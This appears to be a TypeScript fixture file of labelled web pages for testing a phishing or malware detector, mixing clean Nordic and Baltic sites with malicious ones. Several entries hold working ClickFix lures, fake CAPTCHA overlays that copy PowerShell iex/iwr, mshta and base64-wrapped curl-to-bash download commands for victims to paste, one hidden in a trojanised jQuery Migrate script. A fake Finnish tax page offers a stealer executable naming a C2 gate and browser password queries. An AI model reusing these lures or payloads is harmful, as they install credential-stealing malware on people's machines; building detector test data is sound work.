import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, newsCss, newsShell, spinnerCss, cookieBanner, gtm, b64, pdf } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, fileRoute, zip, pe, cfb, iso, lnk, apk } from '../parts/e-bin.js';
const newsAside = (items: string[]): string => items.map((t) => `<div class="teaser"><b>${t}</b></div>`).join('');

export const entries: Entry[] = [
  {
  id: 'yb-fi-verotuspaatos-viewer-exe',
  label: 'malware',
  kind: 'tax-document-malware',
  url: 'https://verotuspaatos-asiakirja.com/omavero/paatos/2023',
  body: doc({
    lang: 'fi',
    title: 'Verotuspäätös 2023 | OmaVero',
    css: `${govCss}
header.top b{color:#1a4b8d;font-size:26px}
.doc{display:flex;gap:16px;align-items:center;border:1px solid #ccd;border-radius:6px;padding:16px;margin:16px 0}
.doc i{width:48px;height:60px;background:#1a4b8d;color:#fff;font:700 12px/60px Arial;text-align:center;font-style:normal}`,
    body: `<header class="top"><div class="in"><b>Vero Skatt</b></div></header>
<main><div class="in">
<h1>Verotuspäätös 2023</h1>
<p class="lead">Verotuksesi on valmistunut. Verotuspäätös ja veronpalautuslaskelma ovat saatavilla suojattuna asiakirjana.</p>
<div class="doc"><i>VERO</i><div><b>Verotuspaatos_2023_suojattu.vdoc</b><br><span style="font-size:13px">Avaaminen edellyttää Vero Document Viewer -ohjelmaa</span></div></div>
<p><a class="btn" href="/omavero/paatos/VeroDocumentViewer_setup.exe">Lataa Vero Document Viewer (Windows)</a></p>
<p style="font-size:13px">Ohjelma on Verohallinnon virallinen asiakirjakatselin. Jos Windows näyttää varoituksen, valitse «Lisätietoja» ja «Suorita silti».</p>
</div></main>`,
  }),
  routes: {
    'verotuspaatos-asiakirja.com/omavero/paatos/VeroDocumentViewer_setup.exe': fileRoute(
      pe({ x64: true, size: 16384, strings: ['VeroDocumentViewer', 'Verohallinto', 'https://185.174.101.22/gate.php', 'SELECT origin_url, username_value, password_value FROM logins', 'Local State', 'encrypted_key', '\\Google\\Chrome\\User Data\\Default\\Login Data', 'wallet.dat'] }),
      'application/x-msdownload',
      'VeroDocumentViewer_setup.exe',
    ),
  },
},
  {
  id: 'yb-se-lokalnytt-jquery-clickfix',
  label: 'clickfix',
  kind: 'clickfix-hacked-news',
  url: 'https://www.lokalnytt-roslagen.se/nyheter/2024/03/ny-badplats-vid-norrtalje/',
  body: doc({
    lang: 'sv',
    title: 'Ny badplats vid Norrtälje klar till sommaren – Lokalnytt Roslagen',
    head: `<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>`,
    css: newsCss,
    body: newsShell({
      brand: 'Lokalnytt',
      color: '#0a5e8a',
      nav: ['Nyheter', 'Sport', 'Kultur', 'Familj'],
      article: `<div class="kicker">Norrtälje</div><h1>Ny badplats vid Norrtälje klar till sommaren</h1><p class="ingress">Kommunen bygger brygga, sandstrand och tillgänglighetsanpassad ramp vid Societetsparken.</p><div class="meta">11 mars 2024</div><figure><div class="ph"></div></figure><p>Arbetet startade i höstas och beräknas vara klart i början av juni. Kostnaden är 4,2 miljoner kronor.</p>`,
      aside: newsAside(['Ishockey: Norrtälje vidare i kvalet', 'Vägarbete på Stockholmsvägen']),
    }),
  }),
  routes: {
    'www.lokalnytt-roslagen.se/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(`/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
"undefined"==typeof jQuery&&(window.jQuery=function(){});
(function(){var d=document;if(localStorage.getItem('__cf_v'))return;
var cmd='powershell -w h -nop -c "iex(iwr -Uri \\'https://verify-cdn.b-cdn.net/r/s.ps1\\' -UseBasicParsing)" # ✅ Jag är inte en robot – reCAPTCHA Verifierings-ID: 4821-77';
function show(){var o=d.createElement('div');o.id='cfv';o.style.cssText='position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:2147483647;font-family:Arial,sans-serif;display:flex;align-items:center;justify-content:center';
o.innerHTML='<div style="width:420px;border:1px solid #ddd;border-radius:4px;box-shadow:0 2px 10px #0002;padding:24px;background:#fff"><h2 style="margin:0 0 10px">Verifiera att du är en människa</h2><p style="font-size:14px;color:#444">www.lokalnytt-roslagen.se behöver granska säkerheten för din anslutning innan du fortsätter.</p><label style="display:flex;align-items:center;gap:12px;border:1px solid #ccc;padding:14px;border-radius:3px;cursor:pointer"><input type="checkbox" id="cfc" style="width:24px;height:24px"> Jag är inte en robot</label><div id="cfs" style="display:none;margin-top:16px;font-size:14px;line-height:1.7"><b>Verifieringssteg</b><br>1. Tryck på Windows-tangenten <b>⊞ + R</b><br>2. Tryck på <b>Ctrl + V</b><br>3. Tryck på <b>Enter</b> för att slutföra verifieringen</div></div>';
d.body.appendChild(o);
d.getElementById('cfc').addEventListener('click',function(){navigator.clipboard.writeText(cmd).catch(function(){var t=d.createElement('textarea');t.value=cmd;d.body.appendChild(t);t.select();d.execCommand('copy');t.remove()});d.getElementById('cfs').style.display='block';});}
if(d.readyState==='loading')d.addEventListener('DOMContentLoaded',show);else show();})();`),
  },
},
  {
  id: 'yb-fi-paikallisuutiset-cloudflare-mshta',
  label: 'clickfix',
  kind: 'clickfix-hacked-news',
  url: 'https://www.savonseudun-uutiset.fi/2024/03/kuopion-tori-remontti/',
  body: doc({
    lang: 'fi',
    title: 'Kuopion torin remontti viivästyy – Savonseudun Uutiset',
    css: `${newsCss}
#cf{position:fixed;inset:0;background:#fff;z-index:9999;font-family:system-ui,Arial;display:flex;flex-direction:column;align-items:center;padding-top:12vh}
#cf h1{font-weight:500;font-size:30px}
#cf .bx{border:1px solid #d9d9d9;padding:16px 18px;width:300px;display:flex;align-items:center;gap:12px;background:#fafafa}
#cf .st{display:none;max-width:440px;margin-top:20px;font-size:15px;line-height:1.7}
#cf kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
    body: `${newsShell({
      brand: 'Savonseutu',
      color: '#1d5e2b',
      nav: ['Uutiset', 'Urheilu', 'Kulttuuri'],
      article: `<h1>Kuopion torin remontti viivästyy</h1><p class="ingress">Torin alla olevan pysäköintilaitoksen vesieristystyöt venyvät syksyyn.</p><p>Kaupungin mukaan viivästys ei vaikuta kesän tapahtumiin.</p>`,
    })}
<div id="cf"><h1>www.savonseudun-uutiset.fi</h1><p>Vahvista, että olet ihminen. Tämä voi kestää muutaman sekunnin.</p>
<div class="bx"><input type="checkbox" id="hc" style="width:22px;height:22px"><label for="hc">Vahvista, että olet ihminen</label><span style="margin-left:auto;font-size:11px;color:#888">CLOUDFLARE</span></div>
<div class="st" id="st">Suorita vahvistus loppuun:<br>1. Paina <kbd>Win</kbd> + <kbd>R</kbd><br>2. Paina <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Paina <kbd>Enter</kbd></div>
<p style="font-size:12px;color:#999;margin-top:40px">Ray ID: 86a1c9e0fb3d7a21 · Suorituskyky ja tietoturva: Cloudflare</p></div>
<script>
document.getElementById('hc').addEventListener('change',function(){
 var c='mshta https://savonseudun-uutiset.fi.cdn-check.icu/v/captcha.hta   # Vahvistus ✓ Olen ihminen – Cloudflare Ray ID 86a1c9e0';
 var t=document.createElement('textarea');t.value=c;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
 document.getElementById('st').style.display='block';});
</script>`,
  }),
},
  {
  id: 'yb-lt-macos-terminal-captcha',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://www.receptai-namuose.lt/cepelinai-su-mesa/',
  body: doc({
    lang: 'lt',
    title: 'Cepelinai su mėsa – receptas',
    css: `${baseCss}
main{max-width:720px;margin:30px auto;padding:0 20px;font:18px/1.6 Georgia,serif;filter:blur(4px)}
#v{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:#0006}
#v .b{background:#fff;border-radius:10px;padding:26px;width:440px;font-family:-apple-system,Helvetica,Arial}
#v code{display:block;background:#111;color:#7CFC00;padding:10px;border-radius:6px;font-size:12px;word-break:break-all;margin:10px 0}
#v button{background:#0071e3;color:#fff;border:0;border-radius:8px;padding:10px 20px}`,
    body: `<main><h1>Cepelinai su mėsa</h1><p>Tradicinis lietuviškas patiekalas iš tarkuotų bulvių su mėsos įdaru.</p></main>
<div id="v"><div class="b"><h3>Patvirtinkite, kad nesate robotas</h3><p>Norėdami tęsti, atlikite patvirtinimą „macOS Security Check“:</p>
<ol style="font-size:14px"><li>Paspauskite <b>⌘ + Tarpas</b> ir įveskite <b>Terminal</b></li><li>Įklijuokite nukopijuotą komandą (<b>⌘ + V</b>)</li><li>Paspauskite <b>Enter</b></li></ol>
<button id="cp">Kopijuoti patvirtinimo kodą</button></div></div>
<script>
document.getElementById('cp').onclick=function(){var c='echo "Apple Security Check ID: 44812" && /bin/bash -c "$(echo ${b64('curl -fsSL https://macos-verify.cloud/v/i.sh | bash')} | base64 -d)"';navigator.clipboard.writeText(c);this.textContent='Nukopijuota ✓';};
</script>`,
  }),
},
  {
  id: 'yb-no-visma-payslip-blob-own',
  label: 'clean',
  kind: 'document-download-own-domain',
  url: 'https://payslip.visma.com/no/employee/payslips',
  body: doc({
    lang: 'no',
    title: 'Lønnsslipper | Visma Payslip',
    css: `${baseCss}
body{background:#f6f7f9}
header{background:#fff;padding:14px 30px;border-bottom:1px solid #e3e5e8;display:flex;justify-content:space-between}
header b{color:#c8102e}
main{max-width:760px;margin:26px auto;background:#fff;border-radius:8px;padding:24px}
table{width:100%;border-collapse:collapse}td,th{padding:10px;border-bottom:1px solid #eee;text-align:left}
button{background:#0b5cad;color:#fff;border:0;padding:7px 14px;border-radius:4px}`,
    body: `<header><b>VISMA Payslip</b><span>Kari Nordmann · Logg ut</span></header>
<main>
<h1>Lønnsslipper</h1>
<table><tr><th>Periode</th><th>Arbeidsgiver</th><th>Utbetalt</th><th></th></tr>
<tr><td>Mars 2024</td><td>Bergen kommune</td><td>34 218,00</td><td><button data-id="2024-03">Last ned PDF</button></td></tr>
<tr><td>Februar 2024</td><td>Bergen kommune</td><td>33 904,00</td><td><button data-id="2024-02">Last ned PDF</button></td></tr></table>
</main>
<script>
[].forEach.call(document.querySelectorAll('button[data-id]'),function(b){b.onclick=function(){
 fetch('/no/api/payslips/'+b.dataset.id+'/pdf',{credentials:'same-origin'}).then(function(r){return r.blob()}).then(function(bl){
  var a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download='Lonnsslipp_'+b.dataset.id+'.pdf';document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(a.href);a.remove()},1000);});};});
</script>`,
  }),
  routes: {
    'payslip.visma.com/no/api/payslips/2024-03/pdf': fileRoute(pdf('Lonnsslipp mars 2024 - Bergen kommune - Kari Nordmann - Utbetalt 34 218,00'), 'application/pdf'),
    'payslip.visma.com/no/api/payslips/2024-02/pdf': fileRoute(pdf('Lonnsslipp februar 2024 - Bergen kommune - Kari Nordmann - Utbetalt 33 904,00'), 'application/pdf'),
  },
},
  {
  id: 'yb-se-ellevio-forbrukning-csv-own',
  label: 'clean',
  kind: 'data-export-own-domain',
  url: 'https://www.ellevio.se/mina-sidor/forbrukning/',
  body: doc({
    lang: 'sv',
    title: 'Min förbrukning | Ellevio',
    css: `${baseCss}
body{background:#f5f7f6}
header{background:#004e42;color:#fff;padding:16px 30px;font:700 22px Arial}
main{max-width:860px;margin:24px auto;background:#fff;border-radius:8px;padding:24px}
.bars{display:flex;align-items:flex-end;gap:8px;height:180px;border-bottom:1px solid #ccc;margin:20px 0}
.bars i{flex:1;background:#00a77e;display:block}
button{background:#004e42;color:#fff;border:0;padding:10px 18px;border-radius:4px}`,
    body: `<header>Ellevio · Mina sidor</header>
<main>
<h1>Din elförbrukning</h1>
<p>Anläggnings-ID 735999100012345678 · Elområde SE3</p>
<div class="bars" id="bars"></div>
<button id="csv">Exportera till Excel (CSV)</button>
</main>
<script>
var m=['jan','feb','mar','apr','maj','jun','jul','aug','sep','okt','nov','dec'],v=[1420,1310,1120,860,540,410,380,420,610,890,1180,1390];
document.getElementById('bars').innerHTML=v.map(function(x){return '<i style="height:'+(x/15)+'px" title="'+x+' kWh"></i>'}).join('');
document.getElementById('csv').onclick=function(){var rows=['Månad;kWh'].concat(v.map(function(x,i){return m[i]+' 2023;'+x}));
 var b=new Blob(['\\ufeff'+rows.join('\\r\\n')],{type:'text/csv;charset=utf-8'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='forbrukning_2023.csv';a.click();};
</script>`,
  }),
},
  {
  id: 'yb-fi-kyberturvallisuuskeskus-clickfix-own',
  label: 'clean',
  kind: 'security-advisory-own-domain',
  url: 'https://www.kyberturvallisuuskeskus.fi/fi/ajankohtaista/tietoturva-nyt-valekaptchat-huijaavat-kayttajia-ajamaan-haittakoodia',
  body: doc({
    lang: 'fi',
    title: 'Tietoturva nyt! Vale-CAPTCHAt huijaavat käyttäjiä ajamaan haittakoodia | Kyberturvallisuuskeskus',
    css: `${govCss}
header.top b{color:#00347a;font-size:20px}
pre{background:#1e1e1e;color:#dcdcdc;padding:14px;border-radius:4px;overflow:auto;font-size:13px}`,
    body: `<header class="top"><div class="in"><b>Kyberturvallisuuskeskus · Traficom</b><span>Tee ilmoitus</span></div></header>
<main><div class="in">
<p class="crumbs">Ajankohtaista › Tietoturva nyt!</p>
<h1>Vale-CAPTCHAt huijaavat käyttäjiä ajamaan haittakoodia</h1>
<p class="lead">Olemme saaneet useita ilmoituksia murretuista suomalaisista verkkosivuista, joilla näytetään väärennetty «Vahvista, että olet ihminen» -ikkuna.</p>
<p>Sivu kopioi käyttäjän leikepöydälle komennon ja neuvoo painamaan Win + R, Ctrl + V ja Enter. Havaittuja komentoja (osoitteet muokattu):</p>
<pre>mshta hxxps://savonseudun-uutiset[.]fi.cdn-check[.]icu/v/captcha.hta # Vahvistus ✓ Olen ihminen</pre>
<pre>powershell -w h -nop -c "iex(iwr -Uri 'hxxps://verify-cdn[.]b-cdn[.]net/r/s.ps1' -UseBasicParsing)"</pre>
<p>Komennot lataavat tietoja varastavan haittaohjelman (esim. Lumma Stealer).</p>
<h2>Näin suojaudut</h2>
<ul><li>Mikään aito CAPTCHA ei pyydä sinua suorittamaan komentoja.</li><li>Organisaatiot voivat estää Suorita-ikkunan (Win + R) ryhmäkäytännöllä tavallisilta käyttäjiltä.</li><li>Jos olet ajanut komennon, irrota laite verkosta ja vaihda salasanasi toiselta laitteelta.</li></ul>
<p>Ilmoita tapauksista: <a href="https://www.kyberturvallisuuskeskus.fi/fi/ilmoita">kyberturvallisuuskeskus.fi/ilmoita</a></p>
</div></main>`,
  }),
},
  {
  id: 'yb-se-svt-bedrageri-sms-artikel-own',
  label: 'clean',
  kind: 'news-fraud-article',
  url: 'https://www.svt.se/nyheter/lokalt/vast/pensionar-lurades-pa-400-000-kronor-efter-sms-fran-falska-skatteverket',
  body: doc({
    lang: 'sv',
    title: 'Pensionär lurades på 400 000 kronor efter sms från «Skatteverket» | SVT Nyheter',
    css: newsCss,
    body: newsShell({
      brand: 'SVT',
      color: '#1d1d1d',
      nav: ['Nyheter', 'Lokalt', 'Sport', 'Vädret'],
      article: `<div class="kicker">Väst</div>
<h1>Pensionär lurades på 400 000 kronor efter sms från «Skatteverket»</h1>
<p class="ingress">En 78-årig kvinna i Borås fick ett sms om att hon hade pengar att få tillbaka på skatten. Några timmar senare var hennes sparkonto tömt.</p>
<div class="meta">Publicerad 13 mars 2024 · Uppdaterad 14 mars</div>
<figure><div class="ph"></div><figcaption>Polisen varnar för en ny våg av bedrägeri-sms. Foto: SVT</figcaption></figure>
<p>Sms:et som kvinnan fick löd:</p>
<blockquote>Skatteverket: Du har en återbetalning på 4 312 kr. Beloppet kunde inte betalas ut. Bekräfta dina uppgifter inom 24 timmar: skatteverket-aterbaring[.]com</blockquote>
<p>På sidan ombads hon fylla i sitt personnummer och sina kortuppgifter. Sedan ringde en man som utgav sig för att vara från banken och bad henne legitimera sig med BankID för att «stoppa ett misstänkt köp».</p>
<p>– Skatteverket skickar aldrig sms med länkar. Pengar man har att få tillbaka kommer automatiskt till det konto man anmält, säger Karin Lund, säkerhetsansvarig på Skatteverket.</p>
<p>Polisen uppmanar alla som fått liknande sms att inte klicka på länken och att vidarebefordra meddelandet till 7726.</p>`,
      aside: newsAside(['Så skyddar du dig mot telefonbedrägerier', 'Ny lag: bankerna ska ersätta fler bedrägeridrabbade']),
      footer: 'Sveriges Television AB · Ansvarig utgivare: Anne Lagercrantz',
    }),
  }),
},
  {
  id: 'yb-ee-err-petukirjad-artikkel-own',
  label: 'clean',
  kind: 'news-fraud-article',
  url: 'https://www.err.ee/1609281041/petturid-saadavad-omniva-ja-maksuameti-nimel-sonumeid',
  body: doc({
    lang: 'et',
    title: 'Petturid saadavad Omniva ja maksuameti nimel sõnumeid | ERR',
    css: newsCss,
    body: newsShell({
      brand: 'ERR',
      color: '#0a3a6b',
      nav: ['Eesti', 'Maailm', 'Majandus', 'Kultuur'],
      article: `<div class="kicker">Eesti</div>
<h1>Petturid saadavad Omniva ja maksuameti nimel sõnumeid</h1>
<p class="ingress">Riigi infosüsteemi amet (RIA) hoiatab, et viimastel nädalatel on inimesed saanud tuhandeid õngitsussõnumeid.</p>
<div class="meta">14.03.2024 · ERR News</div>
<p>Üks levinud sõnum on järgmine:</p>
<blockquote>Omniva: Teie saadetise CE473920188EE avamiskood on aegunud. Uue koodi saamiseks tasuge 1,99 €: omniva-ee[.]pakiautomaat-kood[.]com</blockquote>
<p>Teine sõnum lubab tulumaksu tagastust:</p>
<blockquote>MTA: Teile kuulub tagastamisele 287,15 €. Kinnitage pangaandmed: emta-ee[.]tulumaksu-tagastus[.]com</blockquote>
<p>«Maksu- ja tolliamet ei küsi kunagi kaardiandmeid ega saada linke SMS-iga,» ütles RIA intsidentide käsitlemise osakonna juht.</p>
<p>Kui olete sisestanud kaardiandmed, võtke kohe ühendust oma pangaga ja sulgege kaart.</p>`,
      aside: newsAside(['Smart-ID kasutajaid tabas uus petulaine', 'Politsei: investeerimispettustes kaotati mullu 20 miljonit']),
    }),
  }),
},
];
